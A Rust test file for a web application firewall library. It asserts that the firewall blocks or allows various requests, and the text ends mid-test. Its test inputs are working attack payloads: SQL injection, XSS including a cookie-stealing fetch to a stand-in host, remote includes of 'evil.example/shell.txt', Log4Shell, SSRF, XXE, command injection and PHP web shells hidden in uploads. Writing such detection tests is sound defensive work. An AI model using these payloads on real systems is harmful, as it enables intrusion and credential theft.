//! Engine behaviour through the public API: what the gateway sees.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{headers, post};
use http::Method;
use proptest::prelude::*;
use rampart_waf::{
    BodyScanner, Class, ExcludeConfig, Location, Profile, ProfileConfig, RequestHead, Verdict,
    inspect_head,
};

fn profile(cfg: ProfileConfig) -> Profile {
    Profile::compile("test", &cfg).unwrap()
}

fn balanced() -> Profile {
    profile(ProfileConfig::default())
}

fn get(p: &Profile, path: &str, query: Option<&str>) -> Verdict {
    let h = headers(&[
        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
        ("accept", "*/*;q=0.8"),
    ]);
    inspect_head(
        p,
        &RequestHead {
            method: &Method::GET,
            path,
            query,
            headers: &h,
            route: "r",
        },
    )
}

fn class_of(v: &Verdict) -> Option<Class> {
    v.detection().map(|d| d.class)
}

/// The head's verdict on `POST /submit` with these headers and no body.
fn head_verdict(p: &Profile, pairs: &[(&'static str, &str)]) -> Verdict {
    let h = headers(pairs);
    inspect_head(
        p,
        &RequestHead {
            method: &Method::POST,
            path: "/submit",
            query: None,
            headers: &h,
            route: "r",
        },
    )
}

#[test]
fn waf_denies_sqli_in_query() {
    let v = get(&balanced(), "/", Some("id=1%27%20OR%201=1--"));
    assert!(v.is_deny());
    assert_eq!(class_of(&v), Some(Class::Sqli));
    assert_eq!(v.detection().unwrap().status, 400);
}

#[test]
fn waf_denies_sqli_in_json_value() {
    let v = post(
        &balanced(),
        "application/json",
        r#"{"user":{"name":"x' UNION SELECT password FROM users--"}}"#,
    );
    let d = v.detection().unwrap();
    assert_eq!(d.class, Class::Sqli);
    assert_eq!(d.location, Location::JsonValue("user.name".into()));
}

#[test]
fn waf_allows_apostrophe_names() {
    let p = balanced();
    assert_eq!(
        get(
            &p,
            "/api/v1/customers",
            Some("last_name=O%27Brien&first_name=Siobh%C3%A1n")
        ),
        Verdict::Allow
    );
    assert_eq!(
        post(
            &p,
            "application/json",
            r#"{"name":"Marie D'Arcy","note":"I'd like to cancel"}"#
        ),
        Verdict::Allow
    );
    assert_eq!(
        post(
            &p,
            "application/x-www-form-urlencoded",
            "line1=12+O%27Connell+St.%2C+Apt+%234B"
        ),
        Verdict::Allow
    );
}

#[test]
fn waf_allows_prose_with_sql_words() {
    let p = balanced();
    for q in [
        "q=credit+union+select+savings+account",
        "q=null+and+void+meaning",
        "q=black+and+white+photography",
    ] {
        assert_eq!(get(&p, "/search", Some(q)), Verdict::Allow, "{q}");
    }
}

#[test]
fn waf_denies_xss_in_form_field() {
    let v = post(
        &balanced(),
        "application/x-www-form-urlencoded",
        "comment=%3Csvg%2Fonload%3Dalert(1)%3E",
    );
    assert_eq!(class_of(&v), Some(Class::Xss));
}

#[test]
fn waf_allows_rich_text_html() {
    let v = post(
        &balanced(),
        "application/json",
        r#"{"html":"<p>See the <a href=\"https://docs.example.org/x\">changelog</a>.</p>"}"#,
    );
    assert_eq!(v, Verdict::Allow);
}

#[test]
fn waf_denies_traversal_in_path() {
    assert_eq!(
        class_of(&get(&balanced(), "/static/..%2f..%2fetc/passwd", None)),
        Some(Class::Lfi)
    );
}

/// A query pair without `=` is a parameter name to PHP and Rails: a line
/// break that splits it is refused as in any other name; ordinary bare
/// tokens (`?print`, `?summer+dresses`) pass.
#[test]
fn waf_reads_a_bare_query_token_as_a_name_too() {
    let p = balanced();
    let v = get(&p, "/get/s.jsp", Some("variableX=bar&%0d%0restofdata"));
    assert_eq!(class_of(&v), Some(Class::Protocol), "{v:?}");
    queries_pass(
        &p,
        &[
            "print",
            "v=2&debug",
            "summer+dresses",
            "select+comfort+pillow",
        ],
    );
}

/// Each query string, sent to `/s`, passes.
fn queries_pass(p: &Profile, queries: &[&str]) {
    for q in queries {
        assert_eq!(get(p, "/s", Some(q)), Verdict::Allow, "{q}");
    }
}

/// A payload sent as the whole query string or form body is cut at its own
/// `=`: the pair is also read whole when its name is no parameter name, as an
/// application that takes the query string as one value reads it. Pairs
/// with ordinary names, and names with blanks in ordinary text, pass.
#[test]
fn waf_reads_a_pair_with_an_odd_name_whole() {
    let p = balanced();
    let v = get(&p, "/", Some("admin'%20AND%20'1'='1"));
    assert_eq!(class_of(&v), Some(Class::Sqli), "{v:?}");
    let v = post(&p, "application/x-www-form-urlencoded", "admin'+AND+'1'='1");
    assert_eq!(class_of(&v), Some(Class::Sqli), "{v:?}");
    queries_pass(
        &p,
        &[
            "q=it's+1=1+for+me",
            "first+name=Ann&last+name=O'Neil",
            "price>=10",
            "a=b=c",
        ],
    );
}

/// A remote URL in a parameter that selects a file is read the same in every
/// place a parameter can be: query, form, multipart, cookie and JSON (under
/// its key); a key that says it holds a URL keeps its URL.
#[test]
fn waf_reads_remote_includes_in_every_parameter_shape() {
    let p = balanced();
    let url = "http://evil.example/shell.txt";
    let rfi = |v: &Verdict| assert_eq!(class_of(v), Some(Class::Rfi), "{v:?}");
    rfi(&get(
        &p,
        "/index.php",
        Some("basepath=http%3A%2F%2Fevil.example%2Fshell.txt"),
    ));
    rfi(&post(
        &p,
        "application/x-www-form-urlencoded",
        "lang=en&path_prefix=%5C%5Cfiles.example%5Cshare%5Cx.php",
    ));
    rfi(&post(
        &p,
        "application/json",
        &format!(r#"{{"config": {{"root_path_admin": "{url}"}}, "page": 2}}"#),
    ));
    let multipart = format!(
        "--XX\r\nContent-Disposition: form-data; name=\"path_prefix\"\r\n\r\n{url}\r\n--XX--\r\n"
    );
    rfi(&post(&p, "multipart/form-data; boundary=XX", &multipart));
    rfi(&head_verdict(
        &p,
        &[("cookie", &format!("sid=8c1f0e6b; mainpath={url}"))],
    ));
    for body in [
        r#"{"file_url": "https://cdn.example.com/report.pdf", "rootUrl": "https://grafana.example.com/"}"#,
        r#"{"avatar": "https://cdn.example.com/a.png", "path": "/home/docs"}"#,
    ] {
        assert_eq!(post(&p, "application/json", body), Verdict::Allow, "{body}");
    }
}

/// Routes whose last segment is a command's name are routes: a health check
/// at `/api/v1/ping` or a search at `/users/find` is no shell command.
#[test]
fn waf_allows_routes_named_like_commands() {
    let p = balanced();
    for path in [
        "/api/v1/ping",
        "/api/v1/users/find",
        "/v2/reports/diff",
        "/cgi-bin/test",
    ] {
        assert_eq!(get(&p, path, None), Verdict::Allow, "{path}");
    }
    assert_eq!(
        class_of(&get(&p, "/cgi-bin/x/bin/cat", None)),
        Some(Class::Cmdi)
    );
}

fn get_with(p: &Profile, path: &str, pairs: &[(&'static str, &str)]) -> Verdict {
    let h = headers(pairs);
    inspect_head(
        p,
        &RequestHead {
            method: &Method::GET,
            path,
            query: None,
            headers: &h,
            route: "r",
        },
    )
}

#[test]
fn waf_reads_a_path_segment_with_syntax_as_a_parameter_value() {
    let p = balanced();
    // REST APIs take values from the path: such a segment is a value
    for (path, class) in [
        ("/api/users/1%27%20or%20%271%27%3D%271", Class::Sqli),
        ("/api/items/select%20session_user%3B", Class::Sqli),
        ("/api/items/%27%20or%20xyz%21", Class::Sqli),
        ("/api/hosts/pi%60%60ng%20127.0.0.1", Class::Cmdi),
        ("/search/%3Csvg%20onload%3Dalert(1)%3E", Class::Xss),
        ("/api/hosts/8.8.8.8%3Bcat%20%2Fetc%2Fpasswd", Class::Cmdi),
    ] {
        let v = get(&p, path, None);
        assert_eq!(class_of(&v), Some(class), "{path}");
        assert_eq!(v.detection().unwrap().location, Location::Path, "{path}");
    }
    // slugs and ordinary punctuation pass
    for path in [
        "/files/My%20Document%20(1).pdf",
        "/wiki/Rock_%27n%27_roll",
        "/maps/@53.34,-6.26,15z",
        "/products/women%27s-shoes/size:38",
        "/blog/2026/11/what-is-new-in-select-from",
        "/users/Se%C3%A1n%20O%27Connell",
    ] {
        assert_eq!(get(&p, path, None), Verdict::Allow, "{path}");
    }
}

#[test]
fn waf_reads_referer_query_parameters_as_values() {
    let p = balanced();
    let referer = |r: &str| get_with(&p, "/", &[("referer", r)]);
    for (r, class) in [
        (
            "https://shop.example.com/search?q=1%27%20union%20select%20password%20from%20users--",
            Class::Sqli,
        ),
        (
            "https://shop.example.com/?q=select%20session_user%3B",
            Class::Sqli,
        ),
        (
            "https://shop.example.com/?cmd=bash%20-c%20%22echo%20test%22",
            Class::Cmdi,
        ),
        ("https://shop.example.com/?q=%26%23x03C", Class::Xss),
        (
            "https://shop.example.com/?cmd=cat%20%2Fetc%2Fpasswd",
            Class::Lfi,
        ),
        (
            "https://shop.example.com/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            Class::Xss,
        ),
        (
            "https://shop.example.com/?a=b#%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            Class::Xss,
        ),
        ("https://shop.example.com/?user%5B%24ne%5D=1", Class::Nosqli),
        ("' or 1=1--", Class::Sqli),
    ] {
        let v = referer(r);
        assert_eq!(class_of(&v), Some(class), "{r}");
        assert_eq!(
            v.detection().unwrap().location,
            Location::Header("referer".into()),
            "{r}"
        );
    }
    // the URL-host checks stay off: single sign-on returns users to internal
    // hosts, and a search engine's query is prose
    for r in [
        "https://sso.example.com/login?service=http%3A%2F%2F10.0.0.12%3A8080%2Fapp&renew=true",
        "https://www.google.com/search?q=rock+%27n%27+roll+%26+blues&hl=en",
        "https://shop.example.com/search?q=where+to+buy+running+shoes%3F+%28men%27s%29&page=2",
        "http://localhost:3000/?next=http://127.0.0.1:3000/admin",
        "https://example.com/",
    ] {
        assert_eq!(referer(r), Verdict::Allow, "{r}");
    }
}

#[test]
fn waf_reads_xml_text_as_the_application_does() {
    let p = balanced();
    // `&amp;#60;` reaches the application as `&#60;`, a `<` for any HTML page
    let v = post(&p, "application/xml", "<r><q>&amp;#060</q></r>");
    assert_eq!(class_of(&v), Some(Class::Xss));
    assert_eq!(v.detection().unwrap().location, Location::XmlText);
    let v = post(
        &p,
        "application/xml",
        "<r><q>&lt;script&gt;alert(1)&lt;/script&gt;</q></r>",
    );
    assert_eq!(class_of(&v), Some(Class::Xss));
    assert_eq!(
        post(
            &p,
            "application/xml",
            "<r><q a=\"Fish &amp; Chips\">Smith &amp; Sons &lt;3 &#233;t&#xE9;</q></r>"
        ),
        Verdict::Allow
    );
}

/// A Java web application's private directory named in a parameter: with
/// a traversal it is blocked; named in a sentence it is not.
#[test]
fn waf_denies_traversal_to_java_web_app_private_files() {
    let p = balanced();
    let v = get(&p, "/download", Some("file=../WEB-INF/web.xml"));
    assert_eq!(class_of(&v), Some(Class::Lfi), "{v:?}");
    let v = get(&p, "/download", Some("file=../../META-INF/context.xml"));
    assert_eq!(class_of(&v), Some(Class::Lfi), "{v:?}");
    let v = get(
        &p,
        "/forum",
        Some("q=put+the+jar+in+WEB-INF%2Flib+and+restart"),
    );
    assert_eq!(v, Verdict::Allow);
}

#[test]
fn waf_denies_log4shell_in_header() {
    let v = get_with(
        &balanced(),
        "/",
        &[("user-agent", "${${lower:j}ndi:ldap://x.example/a}")],
    );
    assert_eq!(class_of(&v), Some(Class::Java));
}

#[test]
fn waf_denies_ssrf_metadata_url() {
    assert_eq!(
        class_of(&get(
            &balanced(),
            "/fetch",
            Some("url=http://169.254.169.254/latest/meta-data/")
        )),
        Some(Class::Ssrf)
    );
}

#[test]
fn waf_denies_xxe_in_xml_body() {
    let v = post(
        &balanced(),
        "application/xml",
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    );
    assert_eq!(class_of(&v), Some(Class::Xxe));
}

#[test]
fn waf_denies_nosql_operator_in_json_key() {
    assert_eq!(
        class_of(&post(
            &balanced(),
            "application/json",
            r#"{"user":"a","pass":{"$ne":null}}"#
        )),
        Some(Class::Nosqli)
    );
}

#[test]
fn content_type_rejects_json_suffix_bypass() {
    let v = post(&balanced(), "application/json/x-bypass", "{}");
    let d = v.detection().unwrap();
    assert_eq!((d.class, d.status), (Class::ContentType, 415));
}

/// The JSON limits apply whatever the case of the declared type: a body sent
/// as `APPLICATION/JSON` is not scanned as plain text instead.
#[test]
fn json_limits_apply_whatever_the_case_of_the_media_type() {
    let deep = format!("{}1{}", "[".repeat(40), "]".repeat(40));
    for ct in [
        "application/json",
        "APPLICATION/JSON",
        "Application/Json; Charset=UTF-8",
    ] {
        let d = post(&balanced(), ct, &deep).detection().cloned();
        assert_eq!(d.map(|d| d.id), Some("json-depth"), "{ct}");
    }
    // the same document as text is not a JSON limit's business
    let v = post(&balanced(), "text/plain", &deep);
    assert!(v.detection().is_none_or(|d| d.id != "json-depth"));
}

#[test]
fn content_type_not_allowed_is_415() {
    let v = post(&balanced(), "application/x-evil", "x");
    assert_eq!(v.detection().map(|d| d.status), Some(415));
}

/// A body whose type the profile refuses is still read as text: an attack in
/// it is refused as that attack (400, its class in the logs and metrics), an
/// ordinary one with the type's 415. Without body inspection the 415 comes at
/// once; in shadow mode both are would-block.
#[test]
fn a_refused_type_still_reports_the_attack_its_body_carries() {
    let p = balanced();
    let gadget = "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I=";
    for (ct, body, class) in [
        ("application/x-java-serialized-object", gadget, Class::Java),
        (
            "application/x-evil",
            "<script>alert(1)</script>",
            Class::Xss,
        ),
        (
            "application/json/x-bypass",
            r#"{"q":"1' union select password from users--"}"#,
            Class::Sqli,
        ),
        ("text/html; charset", "; cat /etc/passwd", Class::Cmdi),
    ] {
        let v = post(&p, ct, body);
        let d = v.detection().expect(ct);
        assert_eq!((d.class, d.status), (class, 400), "{ct}");
    }
    for (ct, id) in [
        ("application/x-evil", "content-type-not-allowed"),
        ("application/json/x-bypass", "content-type-malformed"),
        ("multipart/form-data", "content-type-malformed"),
    ] {
        let d = post(&p, ct, "hello world").detection().cloned().expect(ct);
        assert_eq!((d.id, d.status), (id, 415), "{ct}");
    }
    let no_body: ProfileConfig =
        toml::from_str("inspect = [\"path\", \"query\", \"headers\", \"cookies\"]").unwrap();
    let d = post(
        &profile(no_body),
        "application/x-evil",
        "<script>alert(1)</script>",
    )
    .detection()
    .cloned()
    .unwrap();
    assert_eq!((d.id, d.status), ("content-type-not-allowed", 415));
    let shadow = profile(ProfileConfig {
        shadow: true,
        ..ProfileConfig::default()
    });
    let v = post(&shadow, "application/x-evil", "<script>alert(1)</script>");
    assert!(
        matches!(&v, Verdict::WouldBlock(d) if d.class == Class::Xss),
        "{v:?}"
    );
    let v = post(&shadow, "application/x-evil", "hello");
    assert!(
        matches!(&v, Verdict::WouldBlock(d) if d.class == Class::ContentType),
        "{v:?}"
    );
}

/// JSON and XML media types by their structured syntax suffix are allowed by
/// default and read with the JSON and XML parsers.
#[test]
fn suffixed_json_and_xml_types_are_allowed_and_parsed() {
    let p = balanced();
    for ct in ["application/merge-patch+json", "application/vnd.api+json"] {
        assert_eq!(
            post(&p, ct, r#"{"data":{"type":"orders","id":"1"}}"#),
            Verdict::Allow,
            "{ct}"
        );
        let d = post(
            &p,
            ct,
            r#"{"q":{"name":"x' UNION SELECT password FROM users--"}}"#,
        )
        .detection()
        .cloned()
        .expect(ct);
        assert_eq!(d.location, Location::JsonValue("q.name".into()), "{ct}");
    }
    let soap = r#"<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><q>1' union select password from users--</q></soap:Body></soap:Envelope>"#;
    assert_eq!(
        class_of(&post(&p, "application/soap+xml", soap)),
        Some(Class::Sqli)
    );
    // the suffix must follow a subtype: `application/+json` is no JSON type
    let p = profile(ProfileConfig {
        allowed_content_types: vec!["application/*+json".into()],
        ..ProfileConfig::default()
    });
    assert_eq!(post(&p, "application/ld+json", "{}"), Verdict::Allow);
    for refused in ["application/json", "text/x+json", "application/+json"] {
        let v = post(&p, refused, "{}");
        assert_eq!(v.detection().map(|d| d.status), Some(415), "{refused}");
    }
}

#[test]
fn allowed_content_types_match_exactly_or_by_type_wildcard() {
    let p = profile(ProfileConfig {
        allowed_content_types: vec!["Application/JSON".into(), "text/*".into()],
        ..ProfileConfig::default()
    });
    let status = |ct: &str| post(&p, ct, "{}").detection().map(|d| d.status);
    for ok in [
        "application/json",
        "APPLICATION/Json; charset=utf-8",
        "text/plain",
        "text/csv",
    ] {
        assert_eq!(status(ok), None, "{ok}");
    }
    for refused in [
        "application/jsonx",
        "application/vnd.api+json",
        "application/x-www-form-urlencoded",
        "texts/plain",
        "image/png",
    ] {
        assert_eq!(status(refused), Some(415), "{refused}");
    }
}

#[test]
fn body_size_declared_length_over_limit_is_413() {
    let p = profile(ProfileConfig {
        body_limit: bytesize::ByteSize::b(16),
        ..ProfileConfig::default()
    });
    let h = headers(&[("content-type", "text/plain"), ("content-length", "17")]);
    let head = RequestHead {
        method: &Method::POST,
        path: "/",
        query: None,
        headers: &h,
        route: "r",
    };
    let v = BodyScanner::new(&p, &head).unwrap_err();
    assert_eq!(
        v.detection().map(|d| (d.class, d.status)),
        Some((Class::BodySize, 413))
    );
}

#[test]
fn body_size_streamed_over_limit_is_413_even_in_shadow() {
    let p = profile(ProfileConfig {
        body_limit: bytesize::ByteSize::b(16),
        shadow: true,
        ..ProfileConfig::default()
    });
    let h = headers(&[("content-type", "text/plain")]);
    let head = RequestHead {
        method: &Method::POST,
        path: "/",
        query: None,
        headers: &h,
        route: "r",
    };
    let mut s = BodyScanner::new(&p, &head).unwrap();
    assert_eq!(s.feed(b"0123456789"), None);
    let v = s.feed(b"0123456789").unwrap();
    assert!(v.is_deny());
    assert_eq!(v.detection().unwrap().status, 413);
}

#[test]
fn json_limits_deny_deep_nesting_before_parsing() {
    let body = format!("{}1{}", "[".repeat(100), "]".repeat(100));
    let v = post(&balanced(), "application/json", &body);
    assert_eq!(
        v.detection().map(|d| (d.class, d.id)),
        Some((Class::JsonLimits, "json-depth"))
    );
}

#[test]
fn json_invalid_is_denied() {
    assert_eq!(
        class_of(&post(&balanced(), "application/json", "{\"a\":")),
        Some(Class::JsonLimits)
    );
}

/// `len` uniformly random alphanumerics (xorshift from `seed`): about 5.95
/// bits per byte.
fn random_alnum(len: usize, seed: u64) -> String {
    const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut x = seed;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            ALNUM[(x % 62) as usize] as char
        })
        .collect()
}

#[test]
fn entropy_denies_random_blob_in_json() {
    // uniformly random alphanumerics: ~5.95 bits per byte, over a 5.5 threshold
    let blob = random_alnum(2048, 0x2545_f491_4f6c_dd1d);
    let body = format!("{{\"blob\":\"{blob}\"}}");
    let p = profile(ProfileConfig {
        entropy_threshold: 5.5,
        ..ProfileConfig::default()
    });
    let v = post(&p, "application/json", &body);
    assert_eq!(class_of(&v), Some(Class::Entropy), "{v:?}");
    assert_eq!(post(&balanced(), "application/json", &body), Verdict::Allow);
}

#[test]
fn entropy_is_checked_on_every_document_even_where_the_previous_one_was_clean() {
    // a long low-entropy string is remembered clean at its place; a random
    // blob of the same length at the same place is still measured
    let p = profile(ProfileConfig {
        entropy_threshold: 5.5,
        ..ProfileConfig::default()
    });
    let calm = "abab".repeat(50);
    let blob = random_alnum(calm.len(), 0x9e37_79b9_7f4a_7c15);
    let doc = |v: &str| format!(r#"{{"id":"ord_1","token":"{v}"}}"#);
    for _ in 0..3 {
        assert_eq!(post(&p, "application/json", &doc(&calm)), Verdict::Allow);
    }
    let v = post(&p, "application/json", &doc(&blob));
    assert_eq!(class_of(&v), Some(Class::Entropy), "{v:?}");
    assert_eq!(post(&p, "application/json", &doc(&calm)), Verdict::Allow);

    // the same blob, allowed under one parameter by an exclusion and so
    // remembered with its document, is measured again under another
    let p = profile(ProfileConfig {
        entropy_threshold: 5.5,
        exclude: vec![ExcludeConfig {
            id: "entropy-high".into(),
            param: Some("a".into()),
            header: None,
            route: None,
        }],
        ..ProfileConfig::default()
    });
    let under = |k: &str| format!(r#"{{"{k}":"{blob}"}}"#);
    for _ in 0..2 {
        assert_eq!(post(&p, "application/json", &under("a")), Verdict::Allow);
    }
    let v = post(&p, "application/json", &under("b"));
    assert_eq!(class_of(&v), Some(Class::Entropy), "{v:?}");
}

#[test]
fn entropy_allows_base64_png() {
    let body = r#"{"thumbnail":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAwAAAAUCAIAAAA2kktGAAAC70lEQVR42gHkAhv9AA8ToTAepzMEll4juV8O1pUXt5YGta8BtcoMqeMS5P4F4RQY1AAPGLM1Hp9RIJRXMbt8GciOM7imKaiwILW7EpntNbcIL9AUFq0ABDStP0LMPyXBYD+9hD2thyCbmSveySmjziW57RuZ/R+4Exu9ABI"}"#;
    assert_eq!(post(&balanced(), "application/json", body), Verdict::Allow);
}

#[test]
fn waf_shadow_returns_would_block() {
    let p = profile(ProfileConfig {
        shadow: true,
        ..ProfileConfig::default()
    });
    let v = get(&p, "/", Some("id=1%27%20OR%201=1--"));
    assert!(matches!(v, Verdict::WouldBlock(ref d) if d.class == Class::Sqli));
    assert!(!v.is_deny());
}

#[test]
fn waf_exclusion_silences_one_param_on_one_route() {
    let ex = ExcludeConfig {
        id: "sqli".into(),
        param: Some("q".into()),
        header: None,
        route: Some("r".into()),
    };
    let p = profile(ProfileConfig {
        exclude: vec![ex],
        ..ProfileConfig::default()
    });
    assert_eq!(get(&p, "/", Some("q=1%27%20OR%201=1--")), Verdict::Allow);
    assert!(get(&p, "/", Some("other=1%27%20OR%201=1--")).is_deny());
}

#[test]
fn profile_rejects_unknown_exclusion_id() {
    let ex = ExcludeConfig {
        id: "nonsense".into(),
        param: None,
        header: None,
        route: None,
    };
    assert!(
        Profile::compile(
            "p",
            &ProfileConfig {
                exclude: vec![ex],
                ..ProfileConfig::default()
            }
        )
        .is_err()
    );
}

#[test]
fn profile_config_parses_toml_and_rejects_unknown_fields() {
    let cfg: ProfileConfig = toml::from_str(
        "mode = \"strict\"\nshadow = true\nbody_limit = \"2MiB\"\nentropy_threshold = 7.0\njson = { max_depth = 8 }\ninspect = [\"query\", \"body\"]\n[[exclude]]\nid = \"xss\"\nheader = \"referer\"\n",
    )
    .unwrap();
    let p = Profile::compile("api", &cfg).unwrap();
    assert!(p.shadow());
    assert_eq!(p.body_limit(), 2 * 1024 * 1024);
    assert!(toml::from_str::<ProfileConfig>("bogus = 1").is_err());
}

#[test]
fn waf_inspect_list_limits_parts() {
    let p = profile(ProfileConfig {
        inspect: vec![rampart_waf::InspectPart::Body],
        ..ProfileConfig::default()
    });
    assert_eq!(get(&p, "/", Some("id=1%27%20OR%201=1--")), Verdict::Allow);
}

#[test]
fn waf_multipart_filename_traversal_denied() {
    let body = "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x.sh\"\r\nContent-Type: application/octet-stream\r\n\r\nBIN\r\n--B--\r\n";
    assert_eq!(
        class_of(&post(&balanced(), "multipart/form-data; boundary=B", body)),
        Some(Class::Lfi)
    );
}

/// An uploaded file's text is a body of its own: a YAML file's `host:` line
/// goes into no header, so it is no header injection. The same lines in a
/// form field are (a field's value can end up in a header), and a script in
/// the file is still refused.
#[test]
fn waf_reads_an_uploaded_file_as_a_body_of_its_own() {
    let p = balanced();
    let ct = "multipart/form-data; boundary=B";
    let yaml = "server:\n  port: 8080\n  host: 0.0.0.0\n";
    let file = |content: &str| {
        format!(
            "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"app.yaml\"\r\nContent-Type: application/x-yaml\r\n\r\n{content}\r\n--B--\r\n"
        )
    };
    assert_eq!(post(&p, ct, &file(yaml)), Verdict::Allow);
    let field =
        format!("--B\r\nContent-Disposition: form-data; name=\"notes\"\r\n\r\n{yaml}\r\n--B--\r\n");
    assert_eq!(class_of(&post(&p, ct, &field)), Some(Class::Protocol));
    let v = post(&p, ct, &file("<?php system($_GET['c']); ?>"));
    assert_eq!(class_of(&v), Some(Class::Php), "{v:?}");
}

/// A text body shaped as a form is also read pair by pair, as frameworks that
/// parse a body whatever its declared type read it: a value that is only an
/// attack once it stands alone (a base64 token naming a gadget class) is
/// found; ordinary text and multi-line notes pass.
#[test]
fn waf_reads_a_form_shaped_text_body_as_a_form() {
    let p = balanced();
    // `ChainedTransformer` cut out of a base64 stream
    let v = post(&p, "text/plain", "id=7&state=DaGFpbmVkVHJhbnNmb3JtZXIAAQ==");
    assert_eq!(class_of(&v), Some(Class::Java), "{v:?}");
    assert_eq!(
        post(&p, "text/plain", "a=1&b=hello+world&c=2024-05-01"),
        Verdict::Allow
    );
    assert_eq!(
        post(
            &p,
            "text/plain",
            "note=call me\nstate=DaGFpbmVkVHJhbnNmb3JtZXIAAQ=="
        ),
        Verdict::Allow
    );
}

/// A bearer token or session cookie whose JWT header declares no signature
/// is refused; a signed one passes.
#[test]
fn waf_refuses_unsigned_tokens() {
    let p = balanced();
    let send = |name: &'static str, value: &str| head_verdict(&p, &[(name, value)]);
    let unsigned = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJ1c2VyIjoiYWRtaW4ifQ.";
    let signed = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ1c2VyIjoiYWRtaW4ifQ.c2ln";
    let v = send("authorization", &format!("Bearer {unsigned}"));
    assert_eq!(class_of(&v), Some(Class::Generic), "{v:?}");
    let v = send("cookie", &format!("theme=dark; token={unsigned}"));
    assert_eq!(class_of(&v), Some(Class::Generic), "{v:?}");
    assert_eq!(
        send("authorization", &format!("Bearer {signed}")),
        Verdict::Allow
    );
    assert_eq!(send("cookie", &format!("token={signed}")), Verdict::Allow);
}

/// A Content-Type that names a second media type in a parameter is built to
/// be read two ways: refused as an attack (400) with or without a body.
#[test]
fn waf_refuses_a_content_type_that_names_another_type() {
    let p = balanced();
    let v = head_verdict(
        &p,
        &[(
            "content-type",
            "application/x-www-form-urlencoded; boundary=\"text/xml\"",
        )],
    );
    assert_eq!(class_of(&v), Some(Class::Protocol), "{v:?}");
    assert_eq!(v.detection().unwrap().status, 400);
    // SOAP with attachments names its root part's type: not a confusion
    let mtom = "multipart/related; type=\"application/xop+xml\"; boundary=b1";
    assert_eq!(head_verdict(&p, &[("content-type", mtom)]), Verdict::Allow);
}

/// An upload declared as an image, sound or video is read by its bytes: a
/// script sent as `image/jpeg` is text and scanned as such, a real image with
/// a PHP open tag in a comment segment is the polyglot an `include` runs, and
/// real images, archives and SVG drawings pass.
#[test]
fn waf_judges_uploads_by_their_bytes_not_their_declared_type() {
    let p = balanced();
    let ct = "multipart/form-data; boundary=B";
    let part = |file: &str, ty: &str, content: &[u8]| {
        let mut b = format!(
            "--B\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"{file}\"\r\nContent-Type: {ty}\r\n\r\n"
        )
        .into_bytes();
        b.extend_from_slice(content);
        b.extend_from_slice(b"\r\n--B--\r\n");
        b
    };
    let send = |body: Vec<u8>| common::post_bytes(&p, ct, &body, &[]);
    // a script under an image's type (the file name alone is not what decides:
    // `avatar.gif` is an ordinary name)
    let v = send(part(
        "avatar.gif",
        "image/gif",
        b"<?PHP\nsystem($_REQUEST['c']);",
    ));
    assert_eq!(class_of(&v), Some(Class::Php), "{v:?}");
    let v = send(part(
        "clip.mp4",
        "video/mp4",
        b"<script>fetch('//x.example/'+document.cookie)</script>",
    ));
    assert_eq!(class_of(&v), Some(Class::Xss), "{v:?}");
    // a JPEG start, a comment segment holding PHP, then image data
    let mut jpeg = vec![
        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0x00,
    ];
    jpeg.extend_from_slice(&[0xFF, 0xFE, 0x00, 0x20]);
    jpeg.extend_from_slice(b"<?php passthru($_GET['x']); ?>");
    jpeg.extend_from_slice(&[0xFF, 0xDB, 0x00, 0x43, 0x00, 0x08, 0x06, 0x06]);
    let v = send(part("me.jpg", "image/jpeg", &jpeg));
    assert_eq!(class_of(&v), Some(Class::Php), "{v:?}");
    // the same image without the script, and binary bytes that merely hold `<?`
    let mut clean = vec![
        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0x00,
    ];
    clean.extend_from_slice(b"<?xpacket begin='' id='W5M0'?> union select <script>");
    clean.extend_from_slice(&[0xFF, 0xD9]);
    assert_eq!(send(part("me.jpg", "image/jpeg", &clean)), Verdict::Allow);
    // text an image type wraps but that is ordinary text
    assert_eq!(
        send(part(
            "notes.png",
            "image/png",
            b"Shopping list: milk, eggs, bread"
        )),
        Verdict::Allow
    );
    // a PHP tag in an archive or PDF is not looked for (source trees are zipped)
    let mut zip = b"PK\x03\x04\x14\x00\x00\x00".to_vec();
    zip.extend_from_slice(b"index.php<?php echo 1; ?>");
    assert_eq!(
        send(part("site.zip", "application/zip", &zip)),
        Verdict::Allow
    );
    // an SVG drawing is its markup
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5z"/></svg>"#;
    assert_eq!(send(part("logo.svg", "image/svg+xml", svg)), Verdict::Allow);
}

/// A multipart part whose Content-Transfer-Encoding a parser honours is
/// read decoded: the application of such a parser sees the payload.
#[test]
fn waf_reads_multipart_parts_through_their_transfer_encoding() {
    let p = balanced();
    let part = |te: &str, content: &str| {
        format!(
            "--B\r\nContent-Disposition: form-data; name=\"note\"\r\nContent-Transfer-Encoding: {te}\r\n\r\n{content}\r\n--B--\r\n"
        )
    };
    let ct = "multipart/form-data; boundary=B";
    // `<script>alert(1)</script>` and `1' union select password from users--`
    let v = post(
        &p,
